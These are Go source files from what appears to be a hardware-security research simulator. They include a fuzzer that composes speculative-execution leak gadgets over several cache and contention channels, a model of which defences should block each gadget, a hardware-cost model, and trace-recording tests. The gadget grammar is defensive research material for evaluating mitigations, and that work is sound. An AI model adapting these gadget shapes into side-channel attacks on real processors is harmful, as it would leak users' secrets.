	if storeSpace(all) != storeSpace(all) {
		t.Fatal("store space must be stable")
	}
}

func keys(m map[string]string) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}
