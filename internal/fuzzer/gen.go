package fuzzer

import (
	"fmt"

	"specasan/internal/asm"
	"specasan/internal/attacks"
)

// GeneratorVersion versions the grammar below. It feeds the store-context
// hash: bumping it invalidates cached evaluations, since the same (seed,
// index) now names a different program.
const GeneratorVersion = 1

// Transmit channel names. Cache, page (TLB-flavoured: page-stride fills)
// and taglatency are cache-state encodings at different strides; mshr,
// port, div and branch are contention encodings.
const (
	ChanCache      = "cache"
	ChanPage       = "page"
	ChanMSHR       = "mshr"
	ChanPort       = "port"
	ChanDiv        = "div"
	ChanBranch     = "branch"
	ChanTagLatency = "taglatency"
)

// Channels lists the transmit encodings the generator composes.
func Channels() []string {
	return []string{ChanCache, ChanPage, ChanMSHR, ChanPort, ChanDiv, ChanBranch, ChanTagLatency}
}

// rng is a splitmix64 stream — tiny, fast, and stable across Go versions
// (math/rand's stream is not part of its compatibility promise).
type rng struct{ s uint64 }

func newRNG(seed uint64, index int) *rng {
	// Decorrelate (seed, index) pairs through one splitmix round each.
	r := &rng{s: seed}
	a := r.next()
	r.s = uint64(index) ^ 0x9e3779b97f4a7c15
	b := r.next()
	r.s = a ^ (b << 1)
	return r
}

func (r *rng) next() uint64 {
	r.s += 0x9e3779b97f4a7c15
	z := r.s
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

func (r *rng) intn(n int) int { return int(r.next() % uint64(n)) }

func (r *rng) pick(xs []string) string { return xs[r.intn(len(xs))] }

// Generate derives candidate (seed, index) — the whole program is a pure
// function of the pair.
func Generate(seed uint64, index int) *Candidate {
	r := newRNG(seed, index)
	c := &Candidate{Seed: seed, Index: index}
	c.Trigger = r.pick(attacks.Triggers())
	c.Relation = r.pick(attacks.RelationsFor(c.Trigger))
	c.Channel = r.pick(Channels())
	switch c.Trigger {
	case attacks.TriggerPHT:
		c.Train = 9 + 2*r.intn(8) // 9..23
	case attacks.TriggerBTB:
		c.Train = 5 + r.intn(6) // 5..10
	}
	c.Body = genBody(r, c.Trigger, c.Channel)
	if err := c.Render(); err != nil {
		// The grammar only emits template-legal combinations; a render
		// failure is a bug in this package, not an input problem.
		panic(fmt.Sprintf("fuzzer: generated unrenderable candidate %d/%d: %v", seed, index, err))
	}
	return c
}

// genBody composes the transient-window gadget: the access phase (pointer
// triggers read the secret through X26; the stl trigger's stale read already
// left it in X5) followed by a randomized transmit encoding, with optional
// NOP padding for the minimiser to chew on.
func genBody(r *rng, trigger, channel string) []string {
	b := asm.NewBuilder()
	if trigger != attacks.TriggerSTL {
		b.Op("LDR", "X5", asm.Deref("X26"))
	}
	genTransmit(r, b, channel)
	lines := b.Lines()
	// 0..2 NOPs at deterministic-random positions: timing jitter inside the
	// window, and deletable fodder that proves minimisation works.
	for i, n := 0, r.intn(3); i < n; i++ {
		at := r.intn(len(lines) + 1)
		lines = append(lines[:at], append([]string{"    NOP"}, lines[at:]...)...)
	}
	return lines
}

// genTransmit renders one secret-dependent encoding over the contract
// registers (X5 secret value, X15 fuzz probe base, X22 probe base; X6-X8,
// X10/X11/X16/X17 scratch).
func genTransmit(r *rng, b *asm.Builder, channel string) {
	switch channel {
	case ChanCache:
		// Classic line-stride probe touch: index = (secret << s) & mask.
		shift := uint64(4 + r.intn(4))  // 4..7
		lines := uint64(8 << r.intn(4)) // 8..64
		mask := (lines - 1) << shift    // well inside fuzzprobe
		b.Op("LSL", "X6", "X5", asm.Imm(shift))
		b.Op("AND", "X6", "X6", asm.Imm(mask))
		b.Op("LDR", "X8", asm.DerefIdx("X15", "X6"))
	case ChanPage:
		// Page-stride probe touch: each secret value lands on its own 4 KiB
		// page, so the fill perturbs TLB/page-granular state, not just one
		// line's set.
		bmask := uint64(3 + 4*r.intn(4)) // 3,7,11,15
		b.Op("AND", "X6", "X5", asm.Imm(bmask))
		b.Op("LSL", "X6", "X6", asm.Imm(12))
		b.Op("LDR", "X8", asm.DerefIdx("X15", "X6"))
	case ChanMSHR:
		// Multiple secret-derived misses in flight: MSHR occupancy.
		b.Op("LSL", "X6", "X5", asm.Imm(6))
		b.Op("AND", "X6", "X6", asm.Imm(4032))
		b.Op("LDR", "X8", asm.DerefIdx("X15", "X6"))
		for i, n := 0, 1+r.intn(3); i < n; i++ {
			b.Op("ADD", "X6", "X6", asm.Imm(64))
			b.Op("LDR", "X8", asm.DerefIdx("X15", "X6"))
		}
	case ChanPort:
		// Multiplier residency keyed to the secret.
		b.Op("MUL", "X7", "X5", "X5")
		for i, n := 0, 1+r.intn(4); i < n; i++ {
			b.Op("MUL", "X7", "X7", "X5")
		}
	case ChanDiv:
		// Early-out divider: latency depends on the dividend's magnitude.
		d := uint64(3 + 2*r.intn(4)) // 3,5,7,9
		b.Op("MOV", "X10", asm.Imm(d))
		b.Op("SDIV", "X7", "X5", "X10")
	case ChanBranch:
		// Secret-steered branch: fetch/port perturbation (SMoTHERSpectre).
		b.Op("AND", "X6", "X5", asm.Imm(1))
		b.Op("CBZ", "X6", "fz_light")
		for i, n := 0, 1+r.intn(3); i < n; i++ {
			b.Op("MUL", "X7", "X7", "X7")
		}
		b.Label("fz_light")
		b.Op("NOP")
	case ChanTagLatency:
		// Tag-check-latency shape (TikTag-flavoured): a secret bit selects
		// which MTE granule the probe access lands in, so the observable
		// difference rides on the tag-check path taken. Both granules are
		// untagged — committed-path safe for any training value — and the
		// oracle sees the secret-derived fill; the optional LDG models the
		// gadget reading the selected granule's tag itself.
		bits := uint64(1 + 2*r.intn(2)) // 1 or 3
		b.Op("AND", "X6", "X5", asm.Imm(bits))
		b.Op("LSL", "X6", "X6", asm.Imm(4)) // one MTE granule per value
		b.Op("ADD", "X16", "X15", "X6")
		b.Op("LDR", "X8", asm.Deref("X16"))
		if r.intn(2) == 1 {
			b.Op("LDG", "X11", asm.Deref("X16"))
		}
	default:
		panic("fuzzer: unknown channel " + channel)
	}
}
