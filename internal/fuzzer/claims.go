package fuzzer

import (
	"specasan/internal/attacks"
	"specasan/internal/core"
)

// ClaimsVersion versions the model below. It feeds the store-context hash:
// a recalibrated model re-judges every cached evaluation.
const ClaimsVersion = 1

// ClaimTier is what a mitigation's behaviour bits say about one candidate
// shape. The tiers drive triage:
//
//   - ClaimBlocked: the bits predict no leak. A leak is a counterexample —
//     a simulator bug, a defence-implementation bug, or a claims-model bug —
//     and must be minimised, golden-cross-checked and surfaced loudly.
//   - ClaimKnownGap: the defence class covers the channel in its headline
//     story, but a documented exception applies (tag-valid gadgets vs.
//     address sanitization, contention channels vs. taint tracking, ...).
//     A leak is an expected find: minimised and emitted as a Table-1-style
//     ◐-evidence PoC row.
//   - ClaimNone: the bits never claimed this shape (Unsafe, committed-path
//     MTE); a leak is unremarkable.
type ClaimTier uint8

// Claim tiers, weakest first.
const (
	ClaimNone ClaimTier = iota
	ClaimKnownGap
	ClaimBlocked
)

// String names the tier for PoC documents.
func (t ClaimTier) String() string {
	switch t {
	case ClaimBlocked:
		return "blocked"
	case ClaimKnownGap:
		return "known-gap"
	default:
		return "unclaimed"
	}
}

// cacheShaped reports whether the channel is a cache-state encoding (fills
// at some stride) as opposed to a contention encoding.
func cacheShaped(ch string) bool {
	return ch == ChanCache || ch == ChanPage || ch == ChanMSHR || ch == ChanTagLatency
}

// Claim judges candidate shape c under mitigation mit from the mitigation's
// behaviour bits alone — never from its identity — so registry additions are
// judged by the same rules. The reason string documents the judgment in
// emitted PoC rows.
func Claim(mit core.Mitigation, c *Candidate) (ClaimTier, string) {
	d := mit.Descriptor()
	tier, reason := ClaimNone, "no speculative defence bit covers this shape"

	consider := func(t ClaimTier, r string) {
		if t > tier {
			tier, reason = t, r
		}
	}

	if d.FenceLoads {
		// Every generated gadget's secret enters through a load, and the
		// fence delays all speculative loads until older work completes.
		consider(ClaimBlocked, "fence delays every speculative load, including the secret access")
	}
	if d.Taint {
		if c.Channel == ChanPort || c.Channel == ChanDiv {
			consider(ClaimKnownGap, "taint tracking gates memory and branch transmitters; multiplier/divider occupancy is its documented SCC gap")
		} else {
			// The access load is speculative, so its result is tainted, and
			// cache/branch transmitters with tainted operands are delayed.
			consider(ClaimBlocked, "transmit instruction carries tainted operands and is delayed to its visibility point")
		}
	}
	if d.GhostFills {
		if cacheShaped(c.Channel) {
			consider(ClaimBlocked, "speculative fills are redirected to the ghost buffer and discarded on squash")
		} else {
			consider(ClaimKnownGap, "fill redirection does not cover execution-unit or fetch contention")
		}
	}
	if d.CFI {
		if c.Trigger == attacks.TriggerBTB || c.Trigger == attacks.TriggerRSB {
			consider(ClaimBlocked, "speculative control-flow validation refuses the injected non-BTI target")
		} else {
			consider(ClaimNone, "in-bounds control flow: CFI makes no claim")
		}
	}
	if d.SpecTagChecks {
		switch c.Relation {
		case attacks.RelForeign:
			consider(ClaimBlocked, "the secret access violates MTE tags and is held by speculative sanitization")
		case attacks.RelStale:
			consider(ClaimBlocked, "a tagged load in a memory-dependence window is delayed until older stores resolve (§4.1 store-bypass rule)")
		case attacks.RelMatching:
			consider(ClaimKnownGap, "a tag-valid pointer to the secret cannot be refused by address sanitization — the paper's partial-mitigation rows")
		case attacks.RelUntagged:
			consider(ClaimKnownGap, "the slot carries tag 0, outside MTE coverage, so sanitization never inspects the stale read")
		}
	}
	if d.DelayOnMiss {
		if cacheShaped(c.Channel) {
			consider(ClaimKnownGap, "DoM holds only L1-missing speculative loads; resident probe lines and contention transmit unhindered")
		}
	}
	return tier, reason
}
