package hwcost

import (
	"strings"
	"testing"
)

func findRow(t *testing.T, rows []Row, component, metric string) Row {
	t.Helper()
	for _, r := range rows {
		if r.Component == component && r.Metric == metric {
			return r
		}
	}
	t.Fatalf("row %s/%s missing", component, metric)
	return Row{}
}

// TestTable3Shape checks the structural claims of Table 3: which mechanism
// pays for which structure, and the rough magnitudes the paper reports.
func TestTable3Shape(t *testing.T) {
	rows := Model()

	// MTE pays for the L1D; SpecASan adds nothing there (tag reuse).
	l1dArea := findRow(t, rows, "L1 D-Cache", "Area Overhead (%)")
	if l1dArea.MTE < 3 || l1dArea.MTE > 5 {
		t.Errorf("L1D MTE area = %.2f, expect ~3.84", l1dArea.MTE)
	}
	if l1dArea.SpecASan != 0 {
		t.Error("SpecASan must not add L1D cost (reuses MTE tags)")
	}

	// SpecASan pays for the LFB and the backend; MTE does not.
	lfbArea := findRow(t, rows, "LFB", "Area Overhead (%)")
	if lfbArea.MTE != 0 || lfbArea.SpecASan < 2 || lfbArea.SpecASan > 6 {
		t.Errorf("LFB row wrong: %+v", lfbArea)
	}
	backArea := findRow(t, rows, "ROB/LSQ/MSHR", "Area Overhead (%)")
	if backArea.SpecASan < 0.5 || backArea.SpecASan > 1.5 {
		t.Errorf("backend area = %.2f, expect ~0.92", backArea.SpecASan)
	}

	// CFI only appears in the combined column.
	cfiArea := findRow(t, rows, "CFI Extensions", "Area Overhead (%)")
	if cfiArea.MTE != 0 || cfiArea.SpecASan != 0 || cfiArea.SpecCFI <= 0 {
		t.Errorf("CFI row wrong: %+v", cfiArea)
	}

	// Totals are small and strictly ordered MTE < SpecASan < SpecASan+CFI.
	tot := findRow(t, rows, "Total Core", "Area Overhead (%)")
	if !(tot.MTE < tot.SpecASan && tot.SpecASan < tot.SpecCFI) {
		t.Errorf("total ordering wrong: %+v", tot)
	}
	if tot.SpecCFI > 1.0 {
		t.Errorf("total core overhead %.2f%% is not 'minimal hardware complexity'", tot.SpecCFI)
	}
}

func TestFormatContainsEveryRow(t *testing.T) {
	out := Format(Model())
	for _, want := range []string{"L1 D-Cache", "LFB", "ROB/LSQ/MSHR",
		"CFI Extensions", "Total Core", "ARM MTE", "SpecASan+CFI"} {
		if !strings.Contains(out, want) {
			t.Errorf("formatted table missing %q", want)
		}
	}
}

func TestStructureModelMonotonicity(t *testing.T) {
	s := Structure{Bits: 1000, Ports: 2, LogicGates: 100, AccessBits: 64,
		AddedBits: 10, AddedGates: 5, AddedAcc: 2}
	bigger := s
	bigger.AddedBits = 100
	if bigger.AreaOverheadPct() <= s.AreaOverheadPct() {
		t.Error("more added bits must cost more area")
	}
	if bigger.AddedStatic() <= s.AddedStatic() {
		t.Error("more added bits must leak more")
	}
	morePorts := s
	morePorts.Ports = 4
	if morePorts.BaseArea() <= s.BaseArea() {
		t.Error("more ports must cost more area")
	}
}
