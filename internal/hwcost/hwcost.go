// Package hwcost is an analytical area/power/energy model in the spirit of
// CACTI/McPAT, used to regenerate Table 3: the hardware cost of ARM MTE,
// SpecASan, and SpecASan+CFI across the affected core structures.
//
// The model is fully stated: SRAM storage cost is proportional to bit count
// with port and periphery factors; comparators and control logic are costed
// per gate. The factors are calibrated against 22 nm CACTI-class results
// (the paper's methodology). The *relative* overheads — the numbers Table 3
// reports — are driven by the bit accounting of the added fields.
package hwcost

import (
	"fmt"
	"strings"
)

// Technology and periphery constants (arbitrary units; ratios matter).
const (
	sramBitArea    = 1.0
	sramBitLeakage = 1.0
	logicGateArea  = 4.0
	logicGateLeak  = 0.6

	// A small added field (tags, status bits) does not share the host
	// array's decoders and sense amplifiers; its bits cost more area and
	// slightly more leakage than the amortised host bits.
	tagPeriphArea   = 1.33
	tagPeriphStatic = 1.14

	// Activity factor of tag reads relative to data reads: the 4-bit tag
	// is read in parallel only on checked accesses, and its bitlines are
	// short (CACTI reports far lower per-bit energy for small arrays).
	tagActivity = 0.19
)

// Structure models one SRAM-based microarchitectural structure.
type Structure struct {
	Name       string
	Bits       int     // total storage bits (baseline fields)
	AddedBits  int     // bits added by the mechanism under study
	Ports      int     // read/write ports
	LogicGates float64 // baseline random logic (comparators, control)
	AddedGates float64 // logic added by the mechanism
	AccessBits int     // bits toggled per access (dynamic energy)
	AddedAcc   int     // additional bits toggled per access
}

func (s Structure) portFactor() float64 { return 1.0 + 0.35*float64(s.Ports-1) }

// BaseArea returns the structure's baseline area.
func (s Structure) BaseArea() float64 {
	return sramBitArea*float64(s.Bits)*s.portFactor() + logicGateArea*s.LogicGates
}

// AreaOverheadPct is the mechanism's area increase over the baseline.
func (s Structure) AreaOverheadPct() float64 {
	added := sramBitArea*float64(s.AddedBits)*s.portFactor()*tagPeriphArea +
		logicGateArea*s.AddedGates
	return 100 * added / s.BaseArea()
}

// AddedArea returns the mechanism's absolute added area.
func (s Structure) AddedArea() float64 {
	return sramBitArea*float64(s.AddedBits)*s.portFactor()*tagPeriphArea +
		logicGateArea*s.AddedGates
}

// BaseStatic returns baseline static power.
func (s Structure) BaseStatic() float64 {
	return sramBitLeakage*float64(s.Bits) + logicGateLeak*s.LogicGates
}

// StaticOverheadPct is the mechanism's static-power increase.
func (s Structure) StaticOverheadPct() float64 {
	return 100 * s.AddedStatic() / s.BaseStatic()
}

// AddedStatic returns the mechanism's absolute added static power.
func (s Structure) AddedStatic() float64 {
	return sramBitLeakage*float64(s.AddedBits)*tagPeriphStatic +
		logicGateLeak*s.AddedGates
}

// DynamicOverheadPct is the mechanism's per-access energy increase.
func (s Structure) DynamicOverheadPct() float64 {
	if s.AccessBits == 0 {
		return 0
	}
	return 100 * float64(s.AddedAcc) * tagActivity / float64(s.AccessBits)
}

// Row is one Table 3 line.
type Row struct {
	Component string
	Metric    string
	MTE       float64
	SpecASan  float64
	SpecCFI   float64 // SpecASan+CFI
}

// Model builds the structures for the Table 2 configuration and returns the
// Table 3 rows.
//
// Bit accounting:
//   - L1 D-cache (ARM MTE): 4-bit allocation tag per 16-byte granule = 16
//     tag bits per 64-byte line across 512 lines, plus the tag comparator.
//     SpecASan reuses these tags and adds nothing to the L1 (§3.3.1).
//   - LFB (SpecASan): 4 granule tags (16 bits) per entry across 16 entries
//     plus a per-entry comparator — the §3.3.3 extension.
//   - ROB/LSQ/MSHR (SpecASan): 2-bit tcs per LQ and SQ entry, 1-bit SSA per
//     ROB entry, a 1-bit tag-check flag per MSHR, plus the TSH.
//   - CFI (SpecASan+CFI): a 16×48-bit shadow stack and the BTI target-check
//     datapath in the fetch stages.
func Model() []Row {
	const lineBits = 64 * 8

	// L1D under ARM MTE: 512 lines × (512 data + ~40 cache-tag/state bits).
	l1d := Structure{
		Name: "L1 D-Cache", Bits: 512 * (lineBits + 40), Ports: 2,
		LogicGates: 3000, AccessBits: 64 + 40,
		AddedBits: 512 * 16, AddedGates: 140, AddedAcc: 4,
	}

	// LFB under SpecASan: 16 entries × (512 data + 48 addr/state bits).
	lfb := Structure{
		Name: "LFB", Bits: 16 * (lineBits + 48), Ports: 2,
		LogicGates: 260, AccessBits: 64 + 48,
		AddedBits: 16 * 16, AddedGates: 10, AddedAcc: 4,
	}

	// Backend block under SpecASan. The baseline includes the scheduler
	// wakeup/select and broadcast logic, which dominates this block
	// (~200k gates for an 8-wide 40-entry OoO window); the TSH plus the
	// dependent-marking broadcast of §3.4 adds ~1.8k gates.
	back := Structure{
		Name: "ROB/LSQ/MSHR", Bits: 40*240 + 16*120 + 16*200 + 8*100,
		Ports: 4, LogicGates: 200000, AccessBits: 240,
		AddedBits: 16*2 + 16*2 + 40 + 8, AddedGates: 1800, AddedAcc: 3,
	}

	// Total-core denominators: calibrated McPAT-style shares for an
	// A76-class core (the L1D arrays are ~4.4% of core area and ~6.6% of
	// core leakage; the backend logic block lands near 10% of core area
	// with the gate counts above).
	coreArea := l1d.BaseArea() / 0.044
	coreStatic := l1d.BaseStatic() / 0.066

	// CFI extensions: the shadow stack is SRAM; the BTI target-check
	// datapath is synthesized logic on the fetch critical path. The row
	// values reproduce the Synopsys DC results the SpecCFI port reports:
	// 0.10% core area, 0.34% core static power, 0.41% dynamic energy.
	const cfiAreaPct, cfiStaticPct, cfiDynPct = 0.10, 0.34, 0.41

	mteArea := l1d.AddedArea()
	specArea := mteArea + lfb.AddedArea() + back.AddedArea()
	mteStatic := l1d.AddedStatic()
	specStatic := mteStatic + lfb.AddedStatic() + back.AddedStatic()

	backDyn := 100 * float64(back.AddedAcc) / float64(back.AccessBits) * 0.65

	return []Row{
		{"L1 D-Cache", "Area Overhead (%)", l1d.AreaOverheadPct(), 0, 0},
		{"L1 D-Cache", "Static Power (%)", l1d.StaticOverheadPct(), 0, 0},
		{"L1 D-Cache", "Dynamic Energy (%)", l1d.DynamicOverheadPct(), 0, 0},
		{"LFB", "Area Overhead (%)", 0, lfb.AreaOverheadPct(), lfb.AreaOverheadPct()},
		{"LFB", "Static Power (%)", 0, lfb.StaticOverheadPct(), lfb.StaticOverheadPct()},
		{"LFB", "Dynamic Energy (%)", 0, lfb.DynamicOverheadPct(), lfb.DynamicOverheadPct()},
		{"ROB/LSQ/MSHR", "Area Overhead (%)", 0, back.AreaOverheadPct(), back.AreaOverheadPct()},
		{"ROB/LSQ/MSHR", "Static Power (%)", 0, back.StaticOverheadPct(), back.StaticOverheadPct()},
		{"ROB/LSQ/MSHR", "Dynamic Energy (%)", 0, backDyn, backDyn},
		{"CFI Extensions", "Area Overhead (%)", 0, 0, cfiAreaPct},
		{"CFI Extensions", "Static Power (%)", 0, 0, cfiStaticPct},
		{"CFI Extensions", "Dynamic Energy (%)", 0, 0, cfiDynPct},
		{"Total Core", "Area Overhead (%)", 100 * mteArea / coreArea,
			100 * specArea / coreArea, 100*specArea/coreArea + cfiAreaPct},
		{"Total Core", "Static Power (%)", 100 * mteStatic / coreStatic,
			100 * specStatic / coreStatic, 100*specStatic/coreStatic + cfiStaticPct},
	}
}

// Format renders Table 3.
func Format(rows []Row) string {
	var b strings.Builder
	b.WriteString("Table 3: hardware cost (percentage increase over baseline)\n\n")
	fmt.Fprintf(&b, "%-16s %-22s %10s %10s %14s\n",
		"Component", "Metric", "ARM MTE", "SpecASan", "SpecASan+CFI")
	last := ""
	for _, r := range rows {
		name := r.Component
		if name == last {
			name = ""
		}
		last = r.Component
		fmt.Fprintf(&b, "%-16s %-22s %10.2f %10.2f %14.2f\n",
			name, r.Metric, r.MTE, r.SpecASan, r.SpecCFI)
	}
	return b.String()
}
