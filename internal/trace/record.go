package trace

import (
	"fmt"

	"specasan/internal/asm"
	"specasan/internal/golden"
	"specasan/internal/isa"
)

// DefaultTouchCap matches the harness's transplant-warming window: the
// recorder keeps this many most-recent touches unless told otherwise.
const DefaultTouchCap = 1 << 15

// DefaultMaxInsts bounds the recording walk; at golden-interpreter speed it
// is far past any workload the harness runs, so hitting it means a runaway
// program, which Record reports rather than records.
const DefaultMaxInsts = uint64(1) << 34

// RecordConfig steers one recording walk.
type RecordConfig struct {
	// MaxInsts bounds the functional walk (DefaultMaxInsts when zero).
	MaxInsts uint64
	// MTEOn enables committed tag checks, and must match how the workload
	// will be simulated (Identity.Tagged says how it was built).
	MTEOn bool
	// TagSeed is the IRG determinism seed; use cpu.TagSeedBase so recorded
	// tag state matches what a live machine's core 0 computes.
	TagSeed uint64
	// TouchCap is the touch ring size (DefaultTouchCap when zero).
	TouchCap int
}

// Record runs prog once on the golden interpreter and captures the result
// as a trace: static code/data/labels copied from the program, the walk's
// output, stop state, and most recent memory touches. id labels the trace;
// its fields are the caller's claim about how prog was built and become the
// store key and the mislabel check on load.
//
// A walk that dies on a bad PC or exhausts MaxInsts is an error — a trace
// of a walk that never finished would replay as a different workload. A
// committed tag fault is recorded (Meta.Stop says so): tagged workloads
// under test may fault by design.
func Record(prog *asm.Program, id Identity, cfg RecordConfig) (*Trace, error) {
	maxInsts := cfg.MaxInsts
	if maxInsts == 0 {
		maxInsts = DefaultMaxInsts
	}
	touchCap := cfg.TouchCap
	if touchCap == 0 {
		touchCap = DefaultTouchCap
	}
	ip := golden.New(prog)
	ip.MTEOn = cfg.MTEOn
	ip.TagSeed = cfg.TagSeed
	ring := golden.NewTouchRing(touchCap)
	ip.Touch = ring
	res := ip.Run(maxInsts)
	switch res.Reason {
	case golden.StopBadPC:
		return nil, fmt.Errorf("trace: record %s: walk ran off code at %#x after %d insts",
			id.Workload, res.PC, res.Insts)
	case golden.StopMaxInsts:
		return nil, fmt.Errorf("trace: record %s: walk did not finish in %d insts",
			id.Workload, maxInsts)
	}

	t := &Trace{
		Meta: Meta{
			Identity: id,
			Entry:    prog.Entry,
			Insts:    res.Insts,
			Stop:     res.Reason.String(),
			ExitCode: res.ExitCode,
		},
	}
	if len(res.Output) > 0 {
		t.Output = append([]byte(nil), res.Output...)
		t.Meta.OutputSHA = SHA256Hex(t.Output)
	}
	if len(prog.Labels) > 0 {
		t.Meta.Labels = make(map[string]uint64, len(prog.Labels))
		for k, v := range prog.Labels {
			t.Meta.Labels[k] = v
		}
	}
	t.Code = make([]asm.CodeBlock, len(prog.Code))
	for i, b := range prog.Code {
		insts := make([]isa.Inst, len(b.Insts))
		copy(insts, b.Insts)
		t.Code[i] = asm.CodeBlock{Addr: b.Addr, Insts: insts}
	}
	t.Data = make([]asm.DataBlock, len(prog.Data))
	for i, b := range prog.Data {
		t.Data[i] = asm.DataBlock{Addr: b.Addr, Bytes: append([]byte(nil), b.Bytes...)}
	}
	t.Touches = make([]Touch, 0, ring.Len())
	ring.Each(func(addr uint64, write, ifetch bool) {
		t.Touches = append(t.Touches, Touch{Addr: addr, Write: write, IFetch: ifetch})
	})
	return t, nil
}
