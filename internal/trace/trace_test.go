package trace

import (
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	"specasan/internal/asm"
	"specasan/internal/golden"
	"specasan/internal/store"
)

// testKernel exercises every section of the format: tagged heap setup (IRG/
// STG), loads and stores (touch stream), program output (SVC #2), a data
// block, labels, and a clean exit code.
const testKernel = `
_start:
    MOV  X10, #0x3000
    IRG  X10, X10
    MOV  X3, #0
tag:
    ADD  X4, X10, X3
    STG  X4, [X4]
    ADD  X3, X3, #16
    CMP  X3, #256
    B.LT tag
    MOV  X2, #0
loop:
    ADD  X4, X10, X2
    STR  X2, [X4]
    LDR  X5, [X4]
    ADD  X2, X2, #8
    CMP  X2, #128
    B.LT loop
    ADR  X7, greet
    LDR  X0, [X7]
    SVC  #2
    MOV  X0, #7
    SVC  #0
greet:
    .word 72
`

func testIdentity() Identity {
	return Identity{Workload: "trace-test", Threads: 1, Tagged: true, Scale: 1}
}

func recordTestTrace(t *testing.T) (*Trace, *asm.Program) {
	t.Helper()
	prog := asm.MustAssemble(testKernel)
	tr, err := Record(prog, testIdentity(), RecordConfig{MTEOn: true, TagSeed: 0x5eca5a})
	if err != nil {
		t.Fatal(err)
	}
	return tr, prog
}

func TestRecordCapturesWalk(t *testing.T) {
	tr, prog := recordTestTrace(t)
	m := tr.Meta
	if m.Stop != golden.StopExit.String() || m.ExitCode != 7 {
		t.Fatalf("stop=%q exit=%d, want exit/7", m.Stop, m.ExitCode)
	}
	if m.Insts == 0 || m.Entry != prog.Entry {
		t.Fatalf("insts=%d entry=%#x vs prog entry %#x", m.Insts, m.Entry, prog.Entry)
	}
	if len(tr.Output) == 0 || m.OutputSHA != SHA256Hex(tr.Output) {
		t.Fatalf("output %q sha %q", tr.Output, m.OutputSHA)
	}
	if len(tr.Touches) == 0 {
		t.Fatal("no touches recorded")
	}
	if len(m.Labels) == 0 || m.Labels["greet"] == 0 {
		t.Fatalf("labels not preserved: %v", m.Labels)
	}
}

// TestEncodeDecodeRoundTrip pins the golden-trace round trip: every section
// survives serialisation byte-exactly, and the reconstructed program is
// behaviourally identical to the original (same golden walk, same output).
func TestEncodeDecodeRoundTrip(t *testing.T) {
	tr, prog := recordTestTrace(t)
	enc, err := tr.Encode()
	if err != nil {
		t.Fatal(err)
	}
	dec, err := Decode(enc)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(dec.Meta, tr.Meta) {
		t.Fatalf("meta drift:\n%+v\n%+v", dec.Meta, tr.Meta)
	}
	if !reflect.DeepEqual(dec.Data, tr.Data) || !reflect.DeepEqual(dec.Output, tr.Output) ||
		!reflect.DeepEqual(dec.Touches, tr.Touches) {
		t.Fatal("data/output/touches drift")
	}
	if !reflect.DeepEqual(dec.Program(), tr.Program()) {
		t.Fatal("reconstructed programs differ")
	}
	// And re-encoding the decoded trace is byte-identical (content
	// addressing depends on it).
	enc2, err := dec.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(enc, enc2) {
		t.Fatal("re-encoding is not byte-identical")
	}

	// Behavioural equality: the golden walk over the reconstructed program
	// retires the same stream as over the original.
	a, b := golden.New(prog), golden.New(dec.Program())
	a.MTEOn, a.TagSeed = true, 0x5eca5a
	b.MTEOn, b.TagSeed = true, 0x5eca5a
	ra, rb := a.Run(1<<32), b.Run(1<<32)
	if !reflect.DeepEqual(ra, rb) {
		t.Fatalf("walks diverge:\n%+v\n%+v", ra, rb)
	}
	if string(a.Snapshot().Output) != string(tr.Output) {
		t.Fatalf("output %q, recorded %q", a.Snapshot().Output, tr.Output)
	}
}

func TestRecordRejectsUnfinishedWalks(t *testing.T) {
	runaway := asm.MustAssemble(`
loop:
    ADD X1, X1, #1
    B   loop`)
	if _, err := Record(runaway, testIdentity(), RecordConfig{MaxInsts: 100}); err == nil {
		t.Fatal("runaway walk recorded")
	}
	badPC := asm.MustAssemble(`
    MOV X7, #0x9000
    BR  X7
    SVC #0`)
	if _, err := Record(badPC, testIdentity(), RecordConfig{}); err == nil {
		t.Fatal("bad-PC walk recorded")
	}
}

// TestDecodeRejectsTruncation cuts the encoded trace at every length: every
// prefix must fail with a structured corruption error, never decode and
// never panic.
func TestDecodeRejectsTruncation(t *testing.T) {
	tr, _ := recordTestTrace(t)
	enc, err := tr.Encode()
	if err != nil {
		t.Fatal(err)
	}
	step := 1
	if len(enc) > 8192 {
		step = 7
	}
	for n := 0; n < len(enc); n += step {
		_, err := Decode(enc[:n])
		if err == nil {
			t.Fatalf("truncation to %d of %d bytes decoded", n, len(enc))
		}
		if !IsCorrupt(err) {
			t.Fatalf("truncation to %d: unstructured error %v", n, err)
		}
	}
}

// TestDecodeRejectsBitFlips flips one bit at every byte position: the
// whole-file trailer (or an inner checksum/framing check) must catch each.
func TestDecodeRejectsBitFlips(t *testing.T) {
	tr, _ := recordTestTrace(t)
	enc, err := tr.Encode()
	if err != nil {
		t.Fatal(err)
	}
	step := 1
	if len(enc) > 8192 {
		step = 5
	}
	for i := 0; i < len(enc); i += step {
		mut := append([]byte(nil), enc...)
		mut[i] ^= 0x40
		_, err := Decode(mut)
		if err == nil {
			t.Fatalf("bit flip at byte %d decoded", i)
		}
		if !IsCorrupt(err) {
			t.Fatalf("bit flip at byte %d: unstructured error %v", i, err)
		}
	}
	// The two header corruptions have dedicated sentinels.
	mut := append([]byte(nil), enc...)
	mut[0] = 'X'
	if _, err := Decode(mut); !errors.Is(err, ErrFormat) {
		t.Fatalf("bad magic: %v", err)
	}
	mut = append([]byte(nil), enc...)
	mut[7] = Version + 1
	if _, err := Decode(mut); !errors.Is(err, ErrVersion) {
		t.Fatalf("bad version: %v", err)
	}
}

func TestStoreSaveLoad(t *testing.T) {
	s, err := store.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	id := testIdentity()
	if _, ok, err := Load(s, id); ok || err != nil {
		t.Fatalf("empty store: ok=%v err=%v", ok, err)
	}
	tr, _ := recordTestTrace(t)
	if err := Save(s, tr); err != nil {
		t.Fatal(err)
	}
	got, ok, err := Load(s, id)
	if !ok || err != nil {
		t.Fatalf("load: ok=%v err=%v", ok, err)
	}
	if !reflect.DeepEqual(got.Meta, tr.Meta) {
		t.Fatal("loaded trace drifted")
	}
	// SourceSHA is advisory: a lookup identity without it still hits.
	idNoSrc := id
	idNoSrc.SourceSHA = ""
	if _, ok, err := Load(s, idNoSrc); !ok || err != nil {
